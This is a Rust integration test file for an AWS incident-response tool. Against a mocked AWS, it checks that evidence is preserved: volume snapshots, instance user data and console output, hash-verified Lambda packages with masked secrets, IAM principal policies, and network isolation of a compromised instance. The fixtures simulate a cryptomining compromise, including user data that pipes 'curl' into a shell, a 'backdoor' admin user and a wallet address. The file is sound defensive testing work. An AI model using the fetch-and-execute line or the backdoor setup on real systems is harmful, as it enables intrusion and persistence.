//! Evidence before eradication, the adapter against moto: snapshots of every EBS volume tagged
//! with the incident and the instance, an instance's description, user data and console
//! output, a Lambda package that equals the one deployed (and is refused when it does not
//! match `CodeSha256`), a principal's policy documents, definitions, and isolation leaving the
//! instance running with the isolation group only.

use crate::common;

use aws_sdk_ec2::types::{
    BlockDeviceMapping, EbsBlockDevice, IamInstanceProfileSpecification, InstanceType,
    RequestLaunchTemplateData,
};
use base64::Engine;
use common::{Moto, aws_root};
use keyspill_aws::Aws;
use keyspill_aws::evidence::{DEVICE_TAG, MASKED, keep};
use keyspill_aws::resources::{self, ISOLATION_GROUP};
use keyspill_core::resources::evidence::{INCIDENT_TAG, INSTANCE_TAG, Keep, Kept};
use keyspill_core::resources::{Action, GLOBAL, Kind, ResourceRef};
use serde_json::Value;
use sha2::{Digest, Sha256};

const AMI: &str = "ami-03cf127a";
const REGION: &str = "eu-west-1";
const INCIDENT: &str = "123456789012-2026-12-05";

fn target(kind: Kind, region: &str, id: &str) -> ResourceRef {
    ResourceRef {
        kind,
        region: region.into(),
        id: id.into(),
        account: None,
    }
}

fn text(kept: &Kept, name: &str) -> String {
    let f = kept
        .files
        .iter()
        .find(|f| f.name == name)
        .unwrap_or_else(|| {
            panic!(
                "no {name} in {:?}",
                kept.files.iter().map(|f| &f.name).collect::<Vec<_>>()
            )
        });
    String::from_utf8_lossy(&f.bytes).into_owned()
}

fn json_file(kept: &Kept, name: &str) -> Value {
    serde_json::from_str(&text(kept, name)).expect("json")
}

/// An instance with a second EBS volume, user data and an instance profile.
async fn instance(aws: &Aws, profile: Option<&str>) -> String {
    let out = aws
        .ec2_in(REGION)
        .run_instances()
        .image_id(AMI)
        .instance_type(InstanceType::T3Micro)
        .min_count(1)
        .max_count(1)
        .user_data(base64::engine::general_purpose::STANDARD.encode("#!/bin/sh\ncurl -s x | sh\n"))
        .block_device_mappings(
            BlockDeviceMapping::builder()
                .device_name("/dev/sdb")
                .ebs(EbsBlockDevice::builder().volume_size(8).build())
                .build(),
        )
        .set_iam_instance_profile(
            profile.map(|p| IamInstanceProfileSpecification::builder().name(p).build()),
        )
        .send()
        .await
        .expect("run instance");
    out.instances()[0].instance_id().expect("id").to_string()
}

async fn profile(aws: &Aws) -> String {
    let trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#;
    aws.iam
        .create_role()
        .role_name("miner-role")
        .assume_role_policy_document(trust)
        .send()
        .await
        .expect("role");
    aws.iam
        .create_instance_profile()
        .instance_profile_name("miner-profile")
        .send()
        .await
        .expect("profile");
    aws.iam
        .add_role_to_instance_profile()
        .instance_profile_name("miner-profile")
        .role_name("miner-role")
        .send()
        .await
        .expect("add role");
    "miner-profile".into()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_ebs_volume_is_snapshotted_and_tagged_with_the_incident_and_the_instance() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    let id = instance(&aws, None).await;
    let kept = keep(
        &aws,
        &target(Kind::Instance, REGION, &id),
        &Keep::Volumes,
        INCIDENT,
    )
    .await
    .expect("volumes kept");
    assert!(!kept.snapshots.is_empty(), "{kept:?}");
    let ids: Vec<String> = kept
        .snapshots
        .iter()
        .map(|s| s.snapshot_id.clone())
        .collect();
    let read = aws
        .ec2_in(REGION)
        .describe_snapshots()
        .set_snapshot_ids(Some(ids.clone()))
        .send()
        .await
        .expect("describe snapshots");
    assert_eq!(read.snapshots().len(), ids.len());
    for s in read.snapshots() {
        let tag = |k: &str| {
            s.tags()
                .iter()
                .find(|t| t.key() == Some(k))
                .and_then(|t| t.value())
                .map(str::to_string)
        };
        assert_eq!(tag(INCIDENT_TAG).as_deref(), Some(INCIDENT), "{s:?}");
        assert_eq!(tag(INSTANCE_TAG).as_deref(), Some(id.as_str()), "{s:?}");
        assert!(tag(DEVICE_TAG).is_some(), "{s:?}");
        let kept_one = kept
            .snapshots
            .iter()
            .find(|k| Some(k.snapshot_id.as_str()) == s.snapshot_id())
            .expect("kept");
        assert_eq!(Some(kept_one.volume_id.as_str()), s.volume_id());
    }
    // The second volume, attached as /dev/sdb, is among them.
    assert!(
        kept.snapshots.iter().any(|s| s.device == "/dev/sdb"),
        "{kept:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_instance_s_description_user_data_and_console_output_are_kept() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    let id = instance(&aws, None).await;
    let kept = keep(
        &aws,
        &target(Kind::Instance, REGION, &id),
        &Keep::Instance,
        INCIDENT,
    )
    .await
    .expect("instance kept");
    // As EC2 returned it.
    let description = text(&kept, "description.xml");
    assert!(
        description.contains(&id) && description.contains("<instanceType>"),
        "{description}"
    );
    assert_eq!(text(&kept, "user-data"), "#!/bin/sh\ncurl -s x | sh\n");
    assert!(!text(&kept, "console-output.txt").is_empty());
}

/// A package's bytes (moto takes any bytes as a package; what matters is that they come back
/// the same).
fn package(content: &str) -> Vec<u8> {
    content.as_bytes().to_vec()
}

/// The miner's environment: its wallet is what masking must hide.
const ENV: [(&str, &str); 2] = [
    (
        "WALLET",
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    ),
    ("POOL", "pool.example:3333"),
];

async fn function(aws: &Aws, name: &str, deployed: &[u8], stored: &[u8]) {
    common::deploy_function(aws, REGION, name, deployed, stored, &ENV).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_function_s_package_kept_is_the_one_deployed_and_its_secrets_masked() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    let deployed = package("def handler(e, c):\n    mine()\n");
    function(&aws, "xmr-relay", &deployed, &deployed).await;
    let t = target(Kind::Function, REGION, "xmr-relay");
    let kept = keep(
        &aws,
        &t,
        &Keep::Function {
            environment_values: false,
        },
        INCIDENT,
    )
    .await
    .expect("function kept");
    let saved = &kept
        .files
        .iter()
        .find(|f| f.name == "package.zip")
        .expect("package")
        .bytes;
    assert_eq!(saved, &deployed);
    let config = json_file(&kept, "configuration.json");
    let sha = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(&deployed));
    assert_eq!(config["Configuration"]["CodeSha256"], sha.as_str());
    assert_eq!(
        config["Configuration"]["Environment"]["Variables"]["WALLET"],
        MASKED
    );
    assert!(!text(&kept, "configuration.json").contains("44AFF"));

    // Opted in: the values are there.
    let clear = keep(
        &aws,
        &t,
        &Keep::Function {
            environment_values: true,
        },
        INCIDENT,
    )
    .await
    .expect("function kept");
    assert!(text(&clear, "configuration.json").contains("pool.example:3333"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_package_that_does_not_match_code_sha256_is_refused() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    function(
        &aws,
        "swapped",
        &package("the real code"),
        &package("something else"),
    )
    .await;
    let e = keep(
        &aws,
        &target(Kind::Function, REGION, "swapped"),
        &Keep::Function {
            environment_values: false,
        },
        INCIDENT,
    )
    .await
    .expect_err("a mismatch fails the step");
    assert!(e.to_string().contains("does not match"), "{e}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_user_s_policy_documents_groups_and_keys_are_kept() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    let iam = &aws.iam;
    iam.create_user()
        .user_name("backdoor")
        .send()
        .await
        .expect("user");
    iam.put_user_policy()
        .user_name("backdoor")
        .policy_name("keepalive")
        .policy_document(common::ADMIN_POLICY)
        .send()
        .await
        .expect("inline");
    let managed = iam
        .create_policy()
        .policy_name("ops-maintenance")
        .policy_document(r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"ec2:*","Resource":"*"}]}"#)
        .send()
        .await
        .expect("policy");
    let arn = managed
        .policy()
        .and_then(|p| p.arn())
        .expect("arn")
        .to_string();
    iam.attach_user_policy()
        .user_name("backdoor")
        .policy_arn(&arn)
        .send()
        .await
        .expect("attach");
    iam.create_group()
        .group_name("admins")
        .send()
        .await
        .expect("group");
    iam.add_user_to_group()
        .group_name("admins")
        .user_name("backdoor")
        .send()
        .await
        .expect("member");
    let key = iam
        .create_access_key()
        .user_name("backdoor")
        .send()
        .await
        .expect("key");
    let key_id = key.access_key().map(|k| k.access_key_id()).expect("id");
    let kept = keep(
        &aws,
        &target(Kind::User, GLOBAL, "backdoor"),
        &Keep::Principal,
        INCIDENT,
    )
    .await
    .expect("user kept");
    let doc = json_file(&kept, "principal.json");
    assert_eq!(
        doc["inline_policies"]["keepalive"]["Statement"][0]["Action"],
        "*"
    );
    assert_eq!(doc["attached_policies"][0]["arn"], arn.as_str());
    assert_eq!(
        doc["attached_policies"][0]["document"]["Statement"][0]["Action"],
        "ec2:*"
    );
    assert_eq!(doc["groups"][0]["name"], "admins");
    assert_eq!(doc["access_keys"][0]["id"], key_id);
    assert_eq!(doc["access_keys"][0]["status"], "Active");
    assert_eq!(doc["unread"], serde_json::json!([]));
    // The managed policy's own definition: every version.
    let p = keep(
        &aws,
        &target(Kind::Policy, GLOBAL, &arn),
        &Keep::Definition,
        INCIDENT,
    )
    .await
    .expect("policy kept");
    let pdoc = json_file(&p, "definition.json");
    assert_eq!(
        pdoc["versions"][0]["document"]["Statement"][0]["Action"],
        "ec2:*"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn definitions_are_kept_as_the_service_describes_them() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    let ec2 = aws.ec2_in(REGION);
    ec2.create_launch_template()
        .launch_template_name("xmr-template")
        .launch_template_data(
            RequestLaunchTemplateData::builder()
                .image_id(AMI)
                .instance_type(InstanceType::C54xlarge)
                .build(),
        )
        .send()
        .await
        .expect("template");
    let sg = ec2
        .create_security_group()
        .group_name("open-all")
        .description("x")
        .send()
        .await
        .expect("group");
    let sg_id = sg.group_id().expect("id").to_string();
    ec2.create_key_pair()
        .key_name("miner-key")
        .send()
        .await
        .expect("key pair");
    for (kind, id, needle) in [
        (Kind::LaunchTemplate, "xmr-template", "c5.4xlarge"),
        (Kind::SecurityGroup, sg_id.as_str(), "open-all"),
        (Kind::KeyPair, "miner-key", "miner-key"),
    ] {
        let kept = keep(&aws, &target(kind, REGION, id), &Keep::Definition, INCIDENT)
            .await
            .unwrap_or_else(|e| panic!("{kind} {id}: {e}"));
        let body = text(&kept, "definition.xml");
        assert!(body.contains(needle), "{kind}: {body}");
    }
}

async fn groups_of(aws: &Aws, id: &str) -> (String, Vec<String>) {
    let out = aws
        .ec2_in(REGION)
        .describe_instances()
        .instance_ids(id)
        .send()
        .await
        .expect("describe");
    let i = &out.reservations()[0].instances()[0];
    let state = i
        .state()
        .and_then(|s| s.name())
        .map(|n| n.as_str().to_string())
        .unwrap_or_default();
    let groups = i
        .security_groups()
        .iter()
        .filter_map(|g| g.group_name().map(str::to_string))
        .collect();
    (state, groups)
}

#[tokio::test(flavor = "multi_thread")]
async fn isolation_leaves_the_instance_running_with_the_isolation_group_only() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    let p = profile(&aws).await;
    let id = instance(&aws, Some(&p)).await;
    let other = instance(&aws, None).await;
    let t = target(Kind::Instance, REGION, &id);
    for action in [
        Action::DetachFromAutoScalingGroup,
        Action::IsolateNetwork,
        Action::DetachInstanceProfile,
        Action::EnableTerminationProtection,
    ] {
        resources::perform(&aws, &t, &action)
            .await
            .unwrap_or_else(|e| panic!("{action}: {e}"));
    }
    let (state, groups) = groups_of(&aws, &id).await;
    assert_eq!(state, "running");
    assert_eq!(groups, [ISOLATION_GROUP]);
    let ec2 = aws.ec2_in(REGION);
    let assoc = ec2
        .describe_iam_instance_profile_associations()
        .filters(
            aws_sdk_ec2::types::Filter::builder()
                .name("instance-id")
                .values(&id)
                .build(),
        )
        .send()
        .await
        .expect("associations");
    assert!(
        assoc.iam_instance_profile_associations().is_empty(),
        "{assoc:?}"
    );
    let protection = ec2
        .describe_instance_attribute()
        .instance_id(&id)
        .attribute(aws_sdk_ec2::types::InstanceAttributeName::DisableApiTermination)
        .send()
        .await
        .expect("attribute");
    assert_eq!(
        protection.disable_api_termination().and_then(|v| v.value()),
        Some(true)
    );
    // The isolation group allows nothing either way.
    let iso = ec2
        .describe_security_groups()
        .filters(
            aws_sdk_ec2::types::Filter::builder()
                .name("group-name")
                .values(ISOLATION_GROUP)
                .build(),
        )
        .send()
        .await
        .expect("group");
    assert_eq!(iso.security_groups().len(), 1);
    let g = &iso.security_groups()[0];
    assert!(
        g.ip_permissions().is_empty() && g.ip_permissions_egress().is_empty(),
        "{g:?}"
    );
    // A second isolation in the same VPC reuses the group.
    resources::perform(
        &aws,
        &target(Kind::Instance, REGION, &other),
        &Action::IsolateNetwork,
    )
    .await
    .expect("second isolation");
    let again = ec2
        .describe_security_groups()
        .filters(
            aws_sdk_ec2::types::Filter::builder()
                .name("group-name")
                .values(ISOLATION_GROUP)
                .build(),
        )
        .send()
        .await
        .expect("group");
    assert_eq!(again.security_groups().len(), 1);
    assert_eq!(groups_of(&aws, &other).await.1, [ISOLATION_GROUP]);
}

#[tokio::test(flavor = "multi_thread")]
async fn isolation_takes_the_instance_out_of_its_auto_scaling_group() {
    let moto = Moto::start();
    let aws = aws_root(&moto).await;
    let ec2 = aws.ec2_in(REGION);
    ec2.create_launch_template()
        .launch_template_name("pool")
        .launch_template_data(RequestLaunchTemplateData::builder().image_id(AMI).build())
        .send()
        .await
        .expect("template");
    let asg = aws.autoscaling_in(REGION);
    asg.create_auto_scaling_group()
        .auto_scaling_group_name("miners")
        .launch_template(
            aws_sdk_autoscaling::types::LaunchTemplateSpecification::builder()
                .launch_template_name("pool")
                .build(),
        )
        .min_size(0)
        .max_size(2)
        .desired_capacity(1)
        .availability_zones(format!("{REGION}a"))
        .send()
        .await
        .expect("group");
    let listed = asg
        .describe_auto_scaling_groups()
        .auto_scaling_group_names("miners")
        .send()
        .await
        .expect("describe");
    let id = listed.auto_scaling_groups()[0].instances()[0]
        .instance_id()
        .expect("instance")
        .to_string();
    let done = resources::perform(
        &aws,
        &target(Kind::Instance, REGION, &id),
        &Action::DetachFromAutoScalingGroup,
    )
    .await
    .expect("detach");
    assert!(done.contains("miners"), "{done}");
    let after = asg
        .describe_auto_scaling_groups()
        .auto_scaling_group_names("miners")
        .send()
        .await
        .expect("describe");
    let g = &after.auto_scaling_groups()[0];
    assert!(
        g.instances()
            .iter()
            .all(|i| i.instance_id() != Some(id.as_str())),
        "{g:?}"
    );
    assert_eq!(g.desired_capacity(), Some(0));
    assert_eq!(groups_of(&aws, &id).await.0, "running");
}
